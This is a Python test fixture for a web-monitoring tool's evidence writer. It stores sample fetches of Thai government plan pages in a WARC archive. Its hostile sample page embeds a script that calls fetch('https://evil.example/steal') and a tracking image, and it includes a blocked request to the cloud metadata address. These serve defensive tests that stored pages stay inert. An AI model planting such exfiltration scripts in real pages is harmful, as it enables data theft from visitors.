"""Writing evidence archives for tests: the pages a check of unit 0 fetched, as EvidenceWriter stores them."""

import datetime as dt
from pathlib import Path

from prongsai.monitoring.engine.evidence import EvidenceWriter
from prongsai.monitoring.engine.fetch import ErrorCode, FetchResult

FETCHED = dt.datetime(2026, 5, 12, 3, 1, 2, tzinfo=dt.UTC)
SITE = "https://unit0.example.go.th"
# A hostile page: a script, a remote image and a form posting elsewhere must all stay inert.
PLAN_PAGE = (
    "<html><head><title>แผนปฏิบัติราชการ</title><script>fetch('https://evil.example/steal')</script></head>"
    "<body><h1>แผนปฏิบัติราชการประจำปี พ.ศ. 2569</h1><img src='https://evil.example/pixel.png'>"
    "<p>ข้อมูล ณ วันที่ 1 เมษายน 2569 แผนปฏิบัติราชการฉบับนี้</p></body></html>"
)
LEGACY_PAGE = "<html><body><p>ข่าวประชาสัมพันธ์ของกอง</p></body></html>"
PDF_BODY = b"%PDF-1.7\n% not a real document\n"


def fetches() -> list[FetchResult]:
    """An HTML page, a TIS-620 page without a charset label, a PDF cut short, a refused address and a 404."""
    return [
        FetchResult(
            requested_url=f"{SITE}/5.1.4",
            final_url=f"{SITE}/5.1.4/",
            redirects=(f"{SITE}/5.1.4",),
            status=200,
            headers=(("Content-Type", "text/html; charset=utf-8"),),
            body=PLAN_PAGE.encode(),
        ),
        FetchResult(
            requested_url=f"{SITE}/5.1.2/",
            final_url=f"{SITE}/5.1.2/",
            status=200,
            headers=(("Content-Type", "text/html"),),
            body=LEGACY_PAGE.encode("tis-620"),
        ),
        FetchResult(
            requested_url=f"{SITE}/docs/%E0%B9%81%E0%B8%9C%E0%B8%99.pdf",
            final_url=f"{SITE}/docs/%E0%B9%81%E0%B8%9C%E0%B8%99.pdf",
            status=200,
            headers=(("Content-Type", "application/pdf"),),
            body=PDF_BODY,
            truncated=True,
        ),
        FetchResult(
            requested_url="http://169.254.169.254/latest/",
            final_url="http://169.254.169.254/latest/",
            error=ErrorCode.BLOCKED_ADDRESS,
            error_message="metadata address",
        ),
        FetchResult(
            requested_url=f"{SITE}/5.1.7.3/",
            final_url=f"{SITE}/5.1.7.3/",
            status=404,
            headers=(("Content-Type", "text/html; charset=utf-8"),),
            body=b"<html><body>Not here</body></html>",
        ),
    ]


def write_archive(path: Path, results: list[FetchResult] | None = None) -> Path:
    """Write the fetches to a gzip WARC at ``path`` and return the path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as stream:
        writer = EvidenceWriter(stream)
        for result in results if results is not None else fetches():
            writer.write(result, fetched_at=FETCHED)
    return path
